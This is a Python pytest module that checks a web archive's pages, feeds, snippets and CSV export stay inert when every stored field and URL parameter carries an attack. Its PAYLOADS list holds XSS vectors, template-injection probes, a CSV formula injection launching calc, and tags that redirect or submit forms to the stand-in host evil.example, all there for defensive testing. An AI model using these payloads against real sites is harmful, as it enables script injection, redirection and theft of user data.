"""Strangers' words on our pages: whatever an article holds, it stays text."""

import json
import re
from collections.abc import Iterator
from pathlib import Path

import feedparser
import httpx
import pytest
from lxml import etree, html

from crawler.items import Attachment
from db.maintenance.upgrade import upgrade
from db.session import Archive, open_archive
from tests.policywatch.web.served import NOW, item, serving, site_for, stock

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title></textarea></style></script><script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<base href=//evil.example><form action=//evil.example><input name=csrf>",
    "{{ 1234567*9 }}{% for x in () %}{{ config }}",
    "${1234567*9}#{1234567*9}<%= 1234567*9 %>",
    "</mark><script>alert(1)</script><mark>",
    "<mark>kein Treffer</mark>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<math><mtext></p><style><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script><![CDATA[",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "=cmd|'/C calc'!A0",
    "\u202e\u2066rtl\u2069 <b style=position:fixed>x",
    "<style>@import '//evil.example'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
]
SHOWN_AGAIN = (
    ("/", ("q",)), ("/", ("site", "source", "publisher", "category")), ("/", ("since", "flag", "cursor", "by")), ("/trends", ("q",)),
    ("/alerts/new", ("query", "name")), ("/alerts/preview", ("query",)), ("/articles/1", ("q",)), ("/sources", ("state",)),
)  # fmt: skip
WORDS = "人形机器人产业发展三年行动方案提出到二零二八年全省整机年产能达到三万台并建设验证平台。"


@pytest.fixture(scope="module")
def hostile(
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[tuple[Archive, httpx.Client]]:
    """An archive in which every field of every article is an attack, and its page."""
    archive = open_archive(
        f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'archive.db'}",
        connection_cache=4,
    )
    upgrade(archive)
    items = []
    for number, payload in enumerate(PAYLOADS):
        one = item(
            f"a{number}.example",
            f"{payload} 标题{number}",
            f"{payload}\n第{number}篇：{WORDS * 2}\n{payload}",
            NOW,
            payload,
        )
        one.author = payload
        one.url += "?q=\"><script>alert(1)</script>'"
        one.attachments.append(
            Attachment(
                f"javascript:alert({number})",
                payload,
                payload,
                payload,
                1,
                payload,
            )
        )
        items.append(one)
    stock(archive, items)
    with serving(site_for(archive)) as client:
        yield archive, client
    archive.close()


def inert(text: str) -> None:
    """Nothing in the page runs, sends, loads or leads anywhere but where our templates say."""
    page = html.document_fromstring(text)
    for element in page.iter(etree.Element):
        assert not [
            name
            for name in element.attrib
            if name.lower().startswith("on") or name.lower() in ("style", "srcdoc")
        ], etree.tostring(element)
        for name in ("href", "src", "action"):
            value = element.get(name, "")
            assert re.match(r"^(/(?!/)|https?://|#|$)", value), value
    assert all(
        script.get("src", "").startswith("/static/") and not script.text
        for script in page.iter("script")
    )
    assert not list(
        page.iter("iframe", "base", "style", "img", "object", "embed", "math")
    )
    assert "11111103" not in text


def pages(client: httpx.Client) -> Iterator[str]:
    for found in client.get(
        "/api/articles", params={"by": "article", "limit": 100}
    ).json()["items"]:
        yield f"/articles/{found['id']}"
        yield f"/articles/{found['id']}?published=1&q=机器人"
        yield f"/stories/{found['story']}"
        yield f"/articles/{found['id']}/changes"
    yield from (
        "/",
        "/?q=机器人&by=article",
        "/trends?q=机器人",
        "/sources",
        "/compare?left=1&right=2",
    )


def test_no_page_runs_what_an_article_says(
    hostile: tuple[Archive, httpx.Client],
) -> None:
    """Every page about every hostile article, parsed again: our own elements only."""
    client = hostile[1]
    for path in pages(client):
        answer = client.get(path, headers={"accept": "text/html"})
        assert answer.status_code == 200, path
        inert(answer.text)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_page_runs_what_an_address_says(
    hostile: tuple[Archive, httpx.Client], payload: str
) -> None:
    """Every parameter that is shown again, error pages included."""
    client = hostile[1]
    for path, names in SHOWN_AGAIN:
        answer = client.get(
            path,
            params=dict.fromkeys(names, payload),
            headers={"accept": "text/html"},
        )
        assert answer.status_code in (200, 400), (path, names)
        inert(answer.text)
    for path in ("/sources/", "/saved/", "/articles/", "/mail/"):
        answer = client.get(
            path + payload.replace("/", "%2F"), headers={"accept": "text/html"}
        )
        assert answer.status_code in (400, 404)
        inert(answer.text)


def test_rules_and_names_stay_text(tmp_path: Path) -> None:
    """Alert rules, saved searches and tokens are people's words; they are shown as such too."""
    from tests.policywatch.web.served import post

    archive = open_archive(f"sqlite:///{tmp_path / 'archive.db'}", connection_cache=4)
    upgrade(archive)
    with serving(site_for(archive)) as client:
        for number, payload in enumerate(PAYLOADS):
            query = f'"{payload}"'.replace('"', "") or "x"
            post(
                client,
                "/alerts/save",
                "/alerts/new",
                name=f"{payload}{number}"[:90],
                query=f"title:机器人{number} OR {json.dumps(query)}",
                to="a@example.org",
            )
            post(
                client,
                "/saved",
                "/alerts/new",
                name=f"{payload}{number}"[:90],
                asked=f"q=x&site={payload}",
            )
            post(
                client,
                "/tokens",
                "/alerts/new",
                name=f"{payload}{number}"[:60],
            )
        assert len(client.get("/api/alerts").json()) >= len(PAYLOADS) // 2
        for path in ("/alerts", "/saved", "/tokens", "/trends", "/"):
            inert(client.get(path, headers={"accept": "text/html"}).text)
    archive.close()


def test_feeds_stay_well_formed(hostile: tuple[Archive, httpx.Client]) -> None:
    """Atom parses, strictly; titles are text; no link is anything but http."""
    client = hostile[1]
    body = client.get("/feed.atom?by=article&limit=100").content
    etree.fromstring(body)
    feed = feedparser.parse(body)
    assert not feed.bozo and len(feed.entries) == len(PAYLOADS)
    assert all(
        link.href.startswith("http") for entry in feed.entries for link in entry.links
    )
    assert len(client.get("/feed.json?by=article&limit=100").json()["items"]) == len(
        PAYLOADS
    )


def test_snippets_hold_marks_and_nothing_else(
    hostile: tuple[Archive, httpx.Client],
) -> None:
    """A snippet is HTML with <mark> only, also where the article holds <mark> itself."""
    for one in (
        hostile[1]
        .get("/api/articles", params={"q": "kein", "by": "article"})
        .json()["items"]
    ):
        assert set(re.findall(r"<(/?\w+)", one["snippet"])) <= {
            "mark",
            "/mark",
        }


def test_spreadsheets_compute_nothing(
    hostile: tuple[Archive, httpx.Client],
) -> None:
    """No CSV cell begins like a formula."""
    import csv
    import io

    rows = csv.reader(
        io.StringIO(hostile[1].get("/export?format=csv").content.decode("utf-8-sig"))
    )
    assert not [
        cell
        for row in rows
        for cell in row
        if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    ]


def test_raw_page_name_and_type_are_ours(
    hostile: tuple[Archive, httpx.Client],
) -> None:
    """The stored attack comes back as bytes to save, under a name made of a number."""
    answer = hostile[1].get("/articles/1/raw")
    assert (
        answer.headers["content-disposition"] == 'attachment; filename="article-1.html"'
    )
    assert (
        b"<script>" in answer.content
        and answer.headers["content-type"] == "application/octet-stream"
    )
